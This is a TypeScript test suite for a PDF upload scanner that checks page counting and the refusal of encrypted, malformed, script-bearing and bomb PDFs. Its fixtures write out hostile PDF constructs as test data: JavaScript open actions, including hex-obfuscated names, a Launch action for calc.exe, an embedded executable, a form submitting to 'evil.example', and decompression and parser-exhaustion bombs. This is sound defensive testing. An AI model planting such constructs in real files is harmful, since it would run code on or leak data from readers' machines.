import { deflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import PdfKit from 'pdfkit';
import { describe, expect, it } from 'vitest';
import { scanLimits } from '#domain/scan/scan.ts';
import { makeScanInspector } from '#functions/scanning/adapters/scan-inspector.ts';
import { pdfOf, plainPdf, streamOf, textPage, zeros } from './corpus.ts';
import { loadWasm } from './wasm-files.ts';

const inspector = makeScanInspector(loadWasm);
const inspect = (bytes: Uint8Array) => inspector.inspect(bytes, 'application/pdf');
const refused = (refusal: string) => ({ ok: false, refusal });
const accepted = (pages: number) => ({
  ok: true,
  inspection: { mediaType: 'application/pdf', pages },
});

const printed = (options: PDFKit.PDFDocumentOptions): Promise<Buffer> =>
  new Promise((resolve) => {
    const pieces: Buffer[] = [];
    const document = new PdfKit(options);
    document.on('data', (piece: Buffer) => pieces.push(piece));
    document.on('end', () => resolve(Buffer.concat(pieces)));
    document.text('Dossier').addPage().text('Second page');
    document.end();
  });

describe('a PDF', () => {
  it('is accepted with the number of its pages', async () => {
    expect(await inspect(plainPdf(1))).toMatchObject(accepted(1));
    expect(await inspect(plainPdf(scanLimits.pages))).toMatchObject(accepted(scanLimits.pages));
    expect(await inspect(plainPdf(scanLimits.pages + 1))).toEqual(refused('too-many-pages'));
  });

  it.each([true, false])(
    'of scanned pages is accepted, object streams %s',
    async (useObjectStreams) => {
      const document = await PDFDocument.create();
      const image = await document.embedJpg(await textPage().jpeg().toBuffer());
      for (let n = 0; n < 3; n++) document.addPage([595, 842]).drawImage(image);
      expect(await inspect(await document.save({ useObjectStreams }))).toMatchObject(accepted(3));
    },
  );

  it('from another writer is accepted', async () => {
    expect(await inspect(await printed({}))).toMatchObject(accepted(2));
  });

  it('that counts its pages wrongly is counted anew', async () => {
    const lying = plainPdf(3).toString('latin1').replace('/Count 3', '/Count 1');
    expect(await inspect(Buffer.from(lying, 'latin1'))).toMatchObject(accepted(3));
  });

  it('with a password is refused', async () => {
    expect(await inspect(await printed({ userPassword: 'secret' }))).toEqual(
      refused('encrypted-pdf'),
    );
    expect(
      await inspect(await printed({ ownerPassword: 'secret', pdfVersion: '1.7ext3' })),
    ).toEqual(refused('encrypted-pdf'));
  });

  it.each([
    ['not a PDF behind its first line', Buffer.from('%PDF-1.7\nhello, hello, hello')],
    ['a header and nothing else', Buffer.from('%PDF-1.7\n')],
    ['without pages', plainPdf(0)],
    ['without a catalogue', pdfOf(['<< /Type /Nothing >>'])],
    [
      'a page tree that bites its tail',
      pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] >>']),
    ],
    [
      'with an object nobody can read',
      pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Kids [ >>']),
    ],
  ])('that is %s is refused', async (_, bytes) => {
    expect(await inspect(bytes)).toEqual(refused('unreadable'));
  });

  it('cut off before its catalogue is refused', async () => {
    const document = await PDFDocument.create();
    document.addPage();
    const bytes = await document.save();
    expect(await inspect(bytes.subarray(0, 200))).toEqual(refused('unreadable'));
  });
});

describe('active content', () => {
  const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

  it.each([
    ['a script on opening', plainPdf(1, `/OpenAction ${script}`)],
    ['a script with its name in hex', plainPdf(1, '/OpenAction << /S /J#61vaScript /J#53 (x) >>')],
    [
      'a script in the name tree',
      plainPdf(1, `/Names << /JavaScript << /Names [(a) ${script}] >> >>`),
    ],
    ['a script nobody points to', plainPdf(1, '', [script])],
    ['a program to start', plainPdf(1, '/OpenAction << /S /Launch /F (calc.exe) >>')],
    ['another file', plainPdf(1, '', ['<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>'])],
    [
      'a form that sends itself',
      plainPdf(1, '', ['<< /S /SubmitForm /F (https://evil.example) >>']),
    ],
    ['an XFA form', plainPdf(1, '/AcroForm << /XFA 9 0 R >>')],
    ['a film', plainPdf(1, '', ['<< /Type /Annot /Subtype /RichMedia >>'])],
  ])('is refused: %s', async (_, bytes) => {
    expect(await inspect(bytes)).toEqual(refused('active-content'));
  });

  it('is refused when a later version of the object looks harmless', async () => {
    const first = plainPdf(1, '', [script]).toString('latin1');
    const bytes = Buffer.from(`${first}4 0 obj\n<< /Harmless true >>\nendobj\n`, 'latin1');
    expect(await inspect(bytes)).toEqual(refused('active-content'));
  });

  it('is refused inside a stream to which only the cross-reference table leads', async () => {
    const hidden = streamOf('', Buffer.from(`9 0 obj ${script} endobj`));
    expect(await inspect(plainPdf(1, '', [hidden]))).toEqual(refused('active-content'));
  });

  it.each([
    ['that still holds', ''],
    ['that is overwritten', '20 0 obj\n<< /Harmless true >>\nendobj\n'],
  ])('is refused out of an object stream %s', async (_, later) => {
    const stream = streamOf(
      '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode',
      deflateSync(Buffer.from(`20 0 ${script}`)),
    );
    const bytes = Buffer.concat([plainPdf(1, '', [stream]), Buffer.from(later)]);
    expect(await inspect(bytes)).toEqual(refused('active-content'));
  });

  it('does not mean links and bookmarks', async () => {
    const link = '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.com) >> >>';
    const bytes = plainPdf(1, '/OpenAction [3 0 R /Fit] /PageMode /UseOutlines', [link]);
    expect(await inspect(bytes)).toMatchObject(accepted(1));
  });
});

describe('a PDF bomb', () => {
  it.each([
    ['an object stream', streamOf('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', zeros(80))],
    [
      'an object stream packed twice',
      streamOf(
        '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]',
        deflateSync(zeros(80)),
      ),
    ],
    [
      'a claim of a billion entries',
      streamOf('/Type /XRef /Size 1000000000 /W [1 2 1]', Buffer.alloc(4)),
    ],
    [
      'a claim of wide entries',
      streamOf('/Type /XRef /Size 10 /W [1 1000000000 1]', Buffer.alloc(4)),
    ],
    ['nested lists', '['.repeat(100_000)],
  ])('is refused: %s', async (_, object) => {
    expect(await inspect(plainPdf(1, '', [object]))).toEqual(refused('unreadable'));
  });

  it.each(['%', ' ', '11 '])(
    'that takes the parser quadratic time is stopped: a million of %j',
    async (character) => {
      const patient = makeScanInspector(loadWasm, {
        bytes: scanLimits.bytes,
        pages: 10,
        pixels: 1,
        milliseconds: 300,
        pictureMilliseconds: 300,
      });
      const bytes = Buffer.concat([
        plainPdf(1),
        Buffer.from('x'),
        Buffer.alloc(1_000_000, character),
        Buffer.from('\nz '),
        plainPdf(1),
      ]);
      expect(await patient.inspect(bytes, 'application/pdf')).toEqual(refused('unreadable'));
    },
  );
});
